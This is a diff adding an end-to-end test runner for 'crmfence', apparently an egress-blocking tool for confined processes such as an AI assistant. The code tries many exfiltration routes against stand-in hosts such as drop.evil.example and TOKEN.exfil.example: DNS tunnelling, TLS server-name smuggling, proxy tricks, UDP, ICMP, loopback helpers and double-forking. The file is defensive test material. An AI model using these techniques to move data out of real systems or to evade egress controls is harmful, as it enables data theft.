@@ -1,0 +1,515 @@
+# SPDX-License-Identifier: Apache-2.0
+"""End to end: every way out first without crmfence, where it has to leak; then confined, where it must not, with an unconfined twin
+beside it; then in monitor mode, where it leaks again and is recorded. The sniffer and the servers say what arrived, never our log.
+
+usage: run.py [NAME...]; ends with "N passed, N failed, N skipped".
+"""
+import fnmatch
+import json
+import os
+import random
+import re
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path.insert(0, HERE + "/../world")
+import world as W  # noqa: E402
+from world import AI, DNS, FOREIGN, OWN, OWN2, SHARED, World  # noqa: E402
+
+LEAK = ["/usr/bin/python3", "-"]  # the second is filled in once the world has a directory that every user may read
+results = {"passed": 0, "failed": 0, "skipped": 0}
+only = sys.argv[1:]
+
+
+def token():
+    return W.PREFIX + "%08x" % random.getrandbits(32)
+
+
+def wanted(name):
+    return not only or any(fnmatch.fnmatch(name, p) for p in only)
+
+
+def result(name, problems):
+    results["failed" if problems else "passed"] += 1
+    print("%s %s%s" % ("FAIL" if problems else "ok  ", name, "".join("\n     " + p for p in problems)), flush=True)
+
+
+# name, arguments of leak.py, reason that the log must give, error that the program must see
+WAYS = [
+    ("foreign-org", ["https", "evil.my.salesforce.com"], "dns-name", "gaierror"),
+    ("foreign-site", ["https", "evil.my.site.com"], "dns-name", "gaierror"),
+    ("vendor-name", ["https", "api.ai-vendor.example"], "dns-name", "gaierror"),
+    ("vendor-v4", ["at", AI, "api.ai-vendor.example", "whole"], "address-unknown", "EPERM"),
+    ("vendor-v6", ["at", "fd99::30", "api.ai-vendor.example", "whole"], "address-unknown", "EPERM"),
+    ("vendor-v4-as-own", ["at", AI, "acme.my.salesforce.com", "whole"], "address-unknown", "EPERM"),
+    ("vendor-mapped", ["mapped", AI], "address-unknown", "EPERM"),
+    ("vendor-fastopen", ["fastopen", AI], "address-unknown", "EPERM"),
+    ("shared-whole", ["known-at", "models.acme.example", "drop.evil.example", "whole"], "server-name", "ECONNABORTED"),
+    ("shared-two-sends", ["known-at", "models.acme.example", "drop.evil.example", "two"], "server-name", "ECONNABORTED"),
+    ("shared-byte-by-byte", ["known-at", "models.acme.example", "drop.evil.example", "bytes"], "server-name", None),
+    ("shared-many-records", ["known-at", "models.acme.example", "drop.evil.example", "records"], "server-name", "ECONNABORTED"),
+    ("shared-big-hello", ["known-at", "models.acme.example", "drop.evil.example", "big"], "server-name", "ECONNABORTED"),
+    ("shared-no-name", ["known-at", "models.acme.example", "-", "whole"], "no-server-name", "ECONNABORTED"),
+    ("own-name-elsewhere", ["known-at", "models.acme.example", "acme.my.salesforce.com", "whole"], "name-elsewhere", "ECONNABORTED"),
+    ("plain-http", ["http", "models.acme.example", "80"], "address-unknown", "EPERM"),
+    ("plain-on-443", ["http", "acme.my.salesforce.com", "443"], "not-tls", "ECONNABORTED"),
+    ("udp-v4", ["udp", AI, "9999"], "address-unknown", "EPERM"),
+    ("udp-v6", ["udp", "fd99::30", "9999"], "address-unknown", "EPERM"),
+    ("udp-to-own", ["udp-connected", "acme.my.salesforce.com", "443"], "udp", "EPERM"),
+    ("dns-foreign", ["dns", DNS, "TOKEN.exfil.example", "1"], "dns-name", "EPERM"),
+    ("dns-txt", ["dns", DNS, "TOKEN.exfil.example", "16"], "dns-name", "EPERM"),
+    ("dns-txt-own", ["dns", DNS, "acme.my.salesforce.com", "16"], "dns-type", "EPERM"),
+    ("dns-long-labels", ["dns", DNS, "TOKEN." + ".".join(["a" * 60] * 3) + ".exfil.example", "1"], "dns-name", "EPERM"),
+    ("dns-under-own", ["dns", DNS, "TOKEN.acme.my.salesforce.com", "1"], "dns-name", "EPERM"),
+    ("dns-tail", ["dns-tail", DNS, "acme.my.salesforce.com"], "dns-form", "EPERM"),
+    ("dns-tcp", ["dns-tcp", DNS, "TOKEN.exfil.example"], "dns-tcp", "EPERM"),
+    ("dns-other-resolver", ["udp", AI, "53"], "address-unknown", "EPERM"),
+    ("proxy-foreign", ["proxy", "api.ai-vendor.example", "443", "api.ai-vendor.example"], "proxy-name", "ECONNABORTED"),
+    ("proxy-other-port", ["proxy", "acme.my.salesforce.com", "80", "acme.my.salesforce.com"], "proxy-name", "ECONNABORTED"),
+    ("proxy-name-inside", ["proxy", "models.acme.example", "443", "drop.evil.example"], "server-name", "ECONNABORTED"),
+    ("proxy-get", ["proxy-get"], "proxy-method", "ECONNABORTED"),
+    ("icmp", ["icmp", AI], "socket-kind", "EPERM"),
+    ("double-fork-setuid", ["double-fork", AI], "address-unknown", None),
+]
+QUIET = {"dns-txt-own", "shared-no-name"}  # what leaks there is the question itself, or lands at an address, not under a name
+NO_TLS_ON_PORT = {"plain-on-443", "proxy-other-port", "dns-other-resolver", "udp-to-own"}  # the server takes it for noise; the wire has it
+
+
+def arrived(w, name, tok):
+    """Did anything arrive that the case is about?"""
+    if name == "dns-txt-own":
+        return ["resolver"] if "query[TXT] acme.my.salesforce.com" in open(w.dir + "/dns.log").read() else []
+    if name == "proxy-other-port":
+        return ["proxy"] if '"CONNECT","url":"acme.my.salesforce.com:80"' in open(w.dir + "/arrived.jsonl").read() else []
+    return w.arrived(tok)
+
+
+def clear(w):
+    open(w.dir + "/dns.log", "w").close()
+    open(w.dir + "/arrived.jsonl", "w").close()
+
+
+def ways(w):
+    """Without, with, and in monitor mode."""
+    cases = [c for c in WAYS if wanted(c[0])]
+    problems = {c[0]: [] for c in cases}
+    for name, args, _, _ in cases:
+        tok = token()
+        w.run(*LEAK, *args, tok, confined=False)
+        time.sleep(0.05 if name == "double-fork-setuid" else 0)
+        if not arrived(w, name, tok):
+            problems[name].append("does not leak without crmfence: the case proves nothing")
+    clear(w)
+    w.start()
+    told = {}
+    for name, args, reason, error in cases:
+        tok, twin, before = token(), token(), len(w.rows("deny"))
+        code, out = w.run(*LEAK, *args, tok)
+        code2, out2 = w.run(*LEAK, *args, twin, confined=False)
+        told[name] = (tok, twin, out, before, len(w.rows("deny")))
+        if error and not out.startswith(error):
+            problems[name].append("the program should see %s, saw %r" % (error, out))
+        took = re.search(r" (\d+)ms$", out)
+        if took and error == "ECONNABORTED" and int(took[1]) > 400:  # a dial, then the refusal within 100 ms; room for a busy machine
+            problems[name].append("the error came late: %r" % out)
+    time.sleep(2)  # retransmits
+    denials = w.rows("deny")
+    for name, args, reason, error in cases:
+        tok, twin, out, before, after = told[name]
+        if name not in QUIET and name not in ("proxy-other-port",) and w.arrived(tok):
+            problems[name].append("LEAKED while confined: %s (%r)" % (w.arrived(tok), out))
+        if name not in ("dns-txt-own", "proxy-other-port") and not w.arrived(twin):
+            problems[name].append("the unconfined twin was harmed")
+        mine = [d for d in denials[before:after] if d["session"] != "0"]
+        if not any(d["reason"] == reason and d["action"] == "deny" for d in mine):
+            problems[name].append("no denial with reason %s in the log, but %s" % (reason, [d["reason"] for d in mine]))
+    w.stop()
+    clear(w)
+    w.start(mode="monitor")
+    for name, args, reason, error in cases:
+        tok, before = token(), len(w.rows("deny"))
+        w.run(*LEAK, *args, tok)
+        time.sleep(0.1)
+        if not arrived(w, name, tok):
+            problems[name].append("monitor mode blocked it")
+        mine = [d for d in w.rows("deny")[before:]]
+        if not any(d["reason"] == reason for d in mine) or any(d["action"] != "would-deny" for d in mine):
+            problems[name].append("monitor mode should record would-deny %s, recorded %s" % (reason, [(d["action"], d["reason"]) for d in mine]))
+    w.stop()
+    for name, found in problems.items():
+        result("way out: " + name, found)
+
+
+# ---- the allowed side, and the rest ----
+
+CASES = []
+
+
+def case(f):
+    CASES.append(f)
+    return f
+
+
+@case
+def allowed_hosts(w):
+    """curl (HTTP/2), Python, wget (GnuTLS): own org, own sandbox shape, the listed host, each split of the hello."""
+    bad = []
+    for cmd in (["curl", "-sS", "-m", "10", "-d", "TOK", "https://acme.my.salesforce.com/x"],
+                ["curl", "-sS", "-4", "-m", "10", "--http1.1", "-d", "TOK", "https://acme--c.vf.force.com/x"],
+                ["wget", "-q", "-T", "10", "-t", "1", "-O", "-", "--ca-certificate=" + w.dir + "/cert.pem", "--post-data=TOK",
+                 "https://models.acme.example/x"],
+                LEAK + ["https", "acme.lightning.force.com", "TOK"], LEAK + ["http", "plain.acme.example", "80", "TOK"],
+                LEAK + ["proxy", "models.acme.example", "443", "models.acme.example", "TOK"]) + tuple(
+                    LEAK + ["known-at", "models.acme.example", "models.acme.example", how, "TOK"]
+                    for how in ("whole", "two", "bytes", "records", "big")):
+        tok = token()
+        code, out = w.run(*[a.replace("TOK", tok) for a in cmd])
+        if code or not w.arrived(tok):
+            bad.append("%s: %s %r" % (" ".join(cmd), code, out[-300:]))
+    return bad
+
+
+@case
+def node_fetch(w):
+    tok = token()
+    js = "fetch('https://acme.my.salesforce.com/x',{method:'POST',body:'%s'}).then(r=>r.text()).then(console.log)" % tok
+    code, out = w.run("node", "-e", js)
+    bad = [] if not code and w.arrived(tok) else ["node was refused: %r" % out]
+    tok = token()
+    js = js.replace("acme.my", "evil.my")
+    code, out = w.run("node", "-e", js)
+    return bad + (["node leaked"] if w.arrived(tok) or not code else [])
+
+
+@case
+def jsforce(w):
+    """A real client, 8 workers at once, not one failure."""
+    if not os.path.isdir(W.ROOT + "/tests/e2e/node_modules/jsforce"):
+        return "jsforce is not installed (npm ci in tests/e2e)"
+    calls = int(os.environ.get("CALLS", "400"))
+    ps = [w.popen("node", HERE + "/jsforce.js", str(calls // 8)) for _ in range(8)]
+    outs = [p.communicate(timeout=300)[0] for p in ps]
+    return ["worker failed: " + o[-300:] for p, o in zip(ps, outs) if p.returncode]
+
+
+@case
+def upload(w):
+    """A large upload through a confined session arrives whole."""
+    size = int(os.environ.get("UPLOAD_MB", "100")) << 20
+    code, out = w.run("sh", "-c", "head -c %d /dev/zero | curl -sS --http1.1 -T - -H Expect: https://acme.my.salesforce.com/upload" % size,
+                      timeout=300)
+    got = [json.loads(x)["size"] for x in open(w.dir + "/arrived.jsonl") if '"/upload"' in x]
+    return [] if not code and got == [size] else ["%s %r, arrived %s of %d" % (code, out, got, size)]
+
+
+@case
+def rotation(w):
+    """A name moves between addresses under a TTL of 5 s while calls run: none fails, and an old address is not remembered for ever."""
+    js = ("const https=require('https');let n=0,bad=0;const end=Date.now()+%d;(function go(){if(Date.now()>end){console.log(n,bad);"
+          "process.exit(bad?1:0)}https.get({host:'rotate.acme.example',path:'/quiet',agent:false,family:4},r=>{r.resume();r.on('end',()=>{n++;"
+          "setTimeout(go,5)})}).on('error',e=>{bad++;console.log(e.message);setTimeout(go,5)})})()" % 6000)
+    p = w.popen("node", "-e", js)
+    pids = W.sh("pgrep", "-P", str(w.dns.pid), check=False).stdout.split() or [str(w.dns.pid)]
+    for i in range(10):
+        time.sleep(0.5)
+        w.hosts(dict(W.NAMES, **{"rotate.acme.example": OWN2 if i % 2 else OWN}))
+        for pid in pids:
+            os.kill(int(pid), 1)
+    out = p.communicate(timeout=30)[0]
+    w.hosts()
+    return [] if p.returncode == 0 and int(out.split()[-2]) > 50 else ["calls failed: " + out[-300:]]
+
+
+@case
+def forged_answers(w):
+    """Answers from another local process, unasked, with a wrong id, from a wrong address, late: none opens an address."""
+    code, out = w.run("python3", HERE + "/forge.py", DNS, AI, timeout=60)
+    tok = token()
+    w.run(*LEAK, "at", AI, "acme.my.salesforce.com", "whole", tok)
+    return ([] if not code else ["forge.py: " + out]) + (["a forged answer opened %s" % AI] if w.arrived(tok) else [])
+
+
+@case
+def loopback(w):
+    """A helper on the same machine is no way out, at 127.0.0.1, 0.0.0.0, ::1 or the own address."""
+    bad = []
+    helper = w.popen("python3", "-c", "import socket,sys\ns=socket.create_server(('::',7070),family=socket.AF_INET6,dualstack_ipv6=True)\n"
+                     "print('up',flush=True)\nwhile 1:\n c,_=s.accept();print(c.recv(99).decode(),flush=True);c.close()", confined=False)
+    helper.stdout.readline()
+    lines = []
+    threading.Thread(target=lambda: [lines.append(x.strip()) for x in helper.stdout], daemon=True).start()
+    for a in ("127.0.0.1", "0.0.0.0", "::1", "10.99.0.2"):
+        tok, twin = token(), token()
+        _, out = w.run(*LEAK, "loopback", a, "7070", tok)
+        w.run(*LEAK, "loopback", a, "7070", twin, confined=False)
+        time.sleep(0.2)
+        if tok in lines or not out.startswith("EPERM"):
+            bad.append("%s: %r%s" % (a, out, " and the helper has it" if tok in lines else ""))
+        if twin not in lines:
+            bad.append("%s: the twin was harmed" % a)
+    helper.kill()
+    return bad
+
+
+@case
+def listening(w):
+    """A session does not listen, so nobody can fetch from it."""
+    code, out = w.run(*LEAK, "listen", "7171", token())
+    code2, out2 = w.run("python3", "-c", "import socket\ns=socket.socket()\ns.listen()\ns.settimeout(1)\n"
+                        "c=socket.socket()\nc.connect(('10.99.0.2',s.getsockname()[1]))")
+    return ([] if out.startswith("EPERM") else ["bind: %r" % out]) + ([] if code2 else ["listen without bind was reached"])
+
+
+@case
+def options(w):
+    """Options that change routes or open layer 2 are refused; a large option of an unconfined process passes unharmed."""
+    probe = ("import socket\ns=socket.socket(socket.AF_INET6)\n"
+             "try:\n s.setsockopt(41,57,b'\\0'*24)\n print('set')\nexcept OSError as e:\n print(e.errno)")
+    _, out = w.run("python3", "-c", probe)
+    big = "import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_RAW,255)\ntry:\n s.setsockopt(0,64,b'\\0'*8192)\nexcept OSError as e:\n print(e.errno)"
+    _, free = w.run("python3", "-c", big, confined=False)
+    return ([] if out.strip() == "1" else ["IPV6_RTHDR: %r" % out]) + (["large option: EFAULT"] if free.strip() == "14" else [])
+
+
+@case
+def exit_status_and_signals(w):
+    code, out = w.run("sh", "-c", "echo to stdout; exit 42")
+    bad = [] if (code, out) == (42, "to stdout\n") else ["status %s output %r" % (code, out)]
+    p = w.popen("sleep", "60")
+    time.sleep(0.4)
+    for pid in W.sh("pgrep", "-f", "^sleep 60$").stdout.split():
+        os.kill(int(pid), 15)
+    if p.wait(5) != -15:
+        bad.append("a signal gave %s" % p.returncode)
+    code, out = w.run("true", tool="nobody")
+    if code != 2 or "no tool" not in out:
+        bad.append("unknown tool: %s %r" % (code, out))
+    return bad
+
+
+@case
+def match_at_exec(w):
+    """The tool's own executable is confined before its first instruction: its first act is a connect."""
+    src = w.dir + "/first.c"
+    with open(src, "w") as f:
+        f.write('#include <arpa/inet.h>\n#include <errno.h>\n#include <stdio.h>\n#include <string.h>\n#include <sys/socket.h>\n#include <unistd.h>\n'
+                'int main(int c,char**v){struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(80)};inet_pton(AF_INET,v[1],&a.sin_addr);'
+                'int s=socket(AF_INET,SOCK_STREAM,0);if(connect(s,(void*)&a,sizeof a)){printf("%s\\n",strerror(errno));return 1;}'
+                'write(s,v[2],strlen(v[2]));sleep(1);puts("sent");return 0;}')
+    W.sh("gcc", "-w", "-o", w.dir + "/assistantd", src)
+    W.sh("cp", w.dir + "/assistantd", w.dir + "/other")
+    tok, twin, bad = token(), token(), []
+    for _ in range(20):
+        code, out = w.run(w.dir + "/assistantd", AI, tok, confined=False)
+        if code != 1 or "not permitted" not in out:
+            bad.append("by path: %s %r" % (code, out))
+            break
+    code, out = w.run(w.dir + "/other", AI, "chrome-extension://abcdefghijklmnopabcdefghijklmnop/", confined=False)
+    if code != 1:
+        bad.append("an origin behind an interpreter's script: %r" % out)
+    code, out = w.run("sh", "-c", "exec %s/other %s %s" % (w.dir, AI, twin), confined=False)
+    if w.arrived(tok) or not w.arrived(twin):
+        bad.append("token %s twin %s" % (w.arrived(tok), w.arrived(twin)))
+    native = "import socket\ntry:\n socket.create_connection(('%s',80),3).sendall(b'%s')\nexcept OSError as e:\n print(e.errno)" % (AI, tok)
+    with open(w.dir + "/host.py", "w") as f:
+        f.write("#!/usr/bin/python3\n" + native)
+    os.chmod(w.dir + "/host.py", 0o755)
+    code, out = w.run("/usr/bin/python3", "-c", native, "chrome-extension://abcdefghijklmnopabcdefghijklmnop/", confined=False)
+    code, out = w.run(w.dir + "/host.py", "chrome-extension://abcdefghijklmnopabcdefghijklmnop/", confined=False)
+    if out.strip() != "1":
+        bad.append("native messaging host: %r" % out)
+    kinds = {r["match"] for r in w.rows("session") if "match" in r}
+    return bad + ([] if {"exe", "native-messaging", "crmfence exec"} - kinds == {"crmfence exec"} or len(kinds) >= 2 else ["matches: %s" % kinds])
+
+
+@case
+def attribution(w):
+    """Short-lived processes (fork, exec, connect, send, exit at once): each flow has its own program, none is unknown."""
+    n = int(os.environ.get("SHORT", "500"))
+    src = w.dir + "/short.c"
+    with open(src, "w") as f:
+        f.write('#include <arpa/inet.h>\n#include <stdlib.h>\n#include <sys/socket.h>\n#include <unistd.h>\n#include <sys/wait.h>\n'
+                'int main(int c,char**v){struct sockaddr_in a={.sin_family=AF_INET,.sin_port=htons(80)};inet_pton(AF_INET,"%s",&a.sin_addr);'
+                'if(c>1){int i;for(i=0;i<atoi(v[1]);i++){if(!fork()){execl(v[0],v[0],(char*)0);_exit(9);}wait(0);}return 0;}'
+                'int s=socket(AF_INET,SOCK_STREAM,0);if(connect(s,(void*)&a,sizeof a))return 1;write(s,"x",1);return 0;}' % AI)
+    W.sh("gcc", "-w", "-O2", "-o", w.dir + "/short", src)
+    before = len(w.rows("flow"))
+    code, out = w.run(w.dir + "/short", str(n), confined=False, timeout=120)
+    time.sleep(1)
+    programs = {r["exec"]: r["exe"] for r in w.rows("process")}
+    flows = [r for r in w.rows("flow")[before:] if r["port"] == 80]
+    wrong = [r for r in flows if programs.get(r["exec"]) != w.dir + "/short"]
+    pids = {r["pid"] for r in flows}
+    bad = ["%d flows of %d" % (len(flows), n)] if len(flows) != n else []
+    return bad + (["%d flows without their program" % len(wrong)] if wrong else []) + (
+        ["%d processes for %d flows" % (len(pids), n)] if len(pids) != n else [])
+
+
+@case
+def replay(w):
+    """Every verdict of the kernel so far, decided again in user space from the recorded facts: no difference."""
+    rows = [r for r in w.rows() if "facts" in r]
+    with open(w.dir + "/facts.txt", "w") as f:
+        for r in rows:
+            f.write("%s %s %s\n" % (" ".join(map(str, r["facts"])), r["action"], r["reason"]))
+    out = W.sh(W.BUILD + "/tests/redecide", w.dir + "/facts.txt", check=False)
+    return [] if out.returncode == 0 and len(rows) > 20 else ["%d rows: %s" % (len(rows), out.stdout[-500:])]
+
+
+@case
+def log_is_whole_and_private(w):
+    """The chain holds, and no token, request or body reached the disk."""
+    w.rows()
+    out = W.sh(W.BUILD + "/crmfence", "verify", "--db", w.db, check=False)
+    bad = [] if out.returncode == 0 else [out.stdout]
+    for f in (w.db, w.db + "-wal", w.dir + "/agent.log"):
+        if os.path.exists(f):
+            data = open(f, "rb").read()
+            if b"POST /x" in data or b"00D5f000000J2PK!" in data:
+                bad.append("%s holds a request" % f)
+    tokens = {json.loads(x).get("body", "")[:12] for x in open(w.dir + "/arrived.jsonl")}
+    data = open(w.db, "rb").read() + open(w.db + "-wal", "rb").read()
+    leaked = [t for t in tokens if t.startswith(W.PREFIX) and t.encode() in data]
+    return bad + (["tokens in the log: %s" % leaked] if leaked else [])
+
+
+def kill_keeps(w):
+    """kill -9: enforcement stays, the chain is whole, the next agent goes on from it."""
+    w.start()
+    db = w.db
+    hold = w.popen("sleep", "30")
+    time.sleep(0.5)
+    agent, w.agent = w.agent, None
+    p = w.popen("python3", "-c", "import time,subprocess,sys\ntime.sleep(1.5)\nsys.exit(subprocess.call(%r))" % (LEAK + ["at", AI, "x.example", "whole", "TOK"]))
+    time.sleep(0.5)
+    agent.kill()
+    agent.wait()
+    out = p.communicate(timeout=20)[0]
+    bad = [] if out.startswith("EPERM") else ["without the agent: %r" % out]
+    v = W.sh(W.BUILD + "/crmfence", "verify", "--db", db, check=False)
+    bad += [] if v.returncode == 0 else [v.stdout]
+    os.unlink(w.control)
+    w.start(db=db)
+    starts = w.rows("start")
+    bad += [] if len(starts) == 2 and starts[1]["adopted"] else ["the second agent did not take over: %s" % starts]
+    tok = token()
+    _, out = w.run(*LEAK, "at", AI, "x.example", "whole", tok)
+    bad += [] if out.startswith("EPERM") and not w.arrived(tok) else ["after the restart: %r" % out]
+    hold.kill()
+    w.stop()
+    v = W.sh(W.BUILD + "/crmfence", "verify", "--db", db, check=False)
+    return bad + ([] if v.returncode == 0 else [v.stdout])
+
+
+def disk_full(w):
+    """A full disk: enforcement goes on, the agent says so, and the loss is a gap in a whole chain when there is room again."""
+    mount = w.dir + "/small"
+    os.mkdir(mount)
+    W.sh("mount", "-t", "tmpfs", "-o", "size=1m", "none", mount)
+    try:
+        w.start(db=mount + "/egress.db")
+        fd = os.open(mount + "/ballast", os.O_WRONLY | os.O_CREAT)
+        try:
+            while os.write(fd, b"\0" * 4096):
+                pass
+        except OSError:
+            os.close(fd)
+        tok = token()
+        _, out = w.run(*LEAK, "at", AI, "x.example", "whole", tok)
+        for _ in range(60):
+            w.run(*LEAK, "udp", AI, "9999", token())
+            if "cannot be written" in open(w.dir + "/agent.log").read():
+                break
+        bad = [] if out.startswith("EPERM") and not w.arrived(tok) else ["with a full disk: %r" % out]
+        bad += [] if "cannot be written" in open(w.dir + "/agent.log").read() else ["the agent did not say so"]
+        os.unlink(mount + "/ballast")
+        w.run(*LEAK, "udp", AI, "9999", token())
+        time.sleep(1)
+        gaps = [r for r in w.rows("gap") if r["what"] == "rows"]
+        bad += [] if gaps else ["no gap record"]
+        w.stop()
+        v = W.sh(W.BUILD + "/crmfence", "verify", "--db", mount + "/egress.db", check=False)
+        return bad + ([] if v.returncode == 0 else [v.stdout])
+    finally:
+        w.stop()
+        W.sh("umount", mount)
+
+
+def refusals(w):
+    """Each reason not to start: one line, exit 2, nothing left behind."""
+    agent, bad = W.BUILD + "/crmfenced", []
+    base = ["--policy", w.policy(), "--db", w.dir + "/r.db", "--control", w.dir + "/r.sock", "--pin-dir", w.pins]
+
+    def refused(name, args, say, **kw):
+        p = W.sh(agent, *args, check=False, **kw)
+        if p.returncode != 2 or say not in p.stdout or p.stdout.count("\n") != 1:
+            bad.append("%s: %s %r" % (name, p.returncode, p.stdout))
+        if os.path.exists(args[-1] if "pin-dir" in args[-2] else w.pins) and name != "another version's pins":
+            bad.append(name + ": left pins behind")
+
+    refused("not root", base, "root", user=65534)
+    refused("no policy", ["--policy", "/nonexistent"] + base[2:], "cannot be read")
+    with open(w.dir + "/bad.json", "w") as f:
+        f.write('{"crmfence": 1,\n "name": }')
+    refused("bad policy", ["--policy", w.dir + "/bad.json"] + base[2:], "line 2")
+    refused("no cgroup", base + ["--cgroup", "/tmp"], "cgroup v2")
+    w.start()
+    refused("running already", base[:4] + ["--control", w.control, "--pin-dir", w.pins + "x"], "already running")
+    w.stop()
+    os.makedirs(w.pins, exist_ok=True)
+    m = W.sh("bpftool", "map", "create", w.pins + "/config", "type", "array", "key", "4", "value", "96", "entries", "1", "name", "config",
+             check=False)
+    if m.returncode:
+        bad.append("bpftool: " + m.stdout)
+    refused("another version's pins", base + ["--cgroup", w.cgroup], "another version")
+    os.unlink(w.pins + "/config")
+    os.rmdir(w.pins)
+    return bad
+
+
+ALONE = [kill_keeps, disk_full, refusals]
+
+
+def run_case(w, f):
+    name = f.__name__.replace("_", "-")
+    if not wanted(name):
+        return
+    try:
+        found = f(w)
+    except Exception as e:  # a case that breaks has failed; the others still run
+        found = ["%s: %s" % (type(e).__name__, e)]
+    if isinstance(found, str):
+        results["skipped"] += 1
+        print("skip %s: %s" % (name, found), flush=True)
+    else:
+        result(name, found)
+
+
+def main():
+    w = World()
+    try:
+        LEAK[1] = shutil.copy(HERE + "/leak.py", w.dir)
+        if any(wanted(c[0]) for c in WAYS):
+            ways(w)
+        if any(wanted(f.__name__.replace("_", "-")) for f in CASES):
+            clear(w)
+            w.start()
+            for f in CASES:
+                run_case(w, f)
+            if w.agent.poll() is not None:
+                result("the agent lives", ["it ended: " + open(w.dir + "/agent.log").read()[-500:]])
+            w.stop()
+        for f in ALONE:
+            run_case(w, f)
+    finally:
+        w.close()
+    print("%(passed)d passed, %(failed)d failed, %(skipped)d skipped" % results)
+    sys.exit(1 if results["failed"] else 0)
+
+
+main()
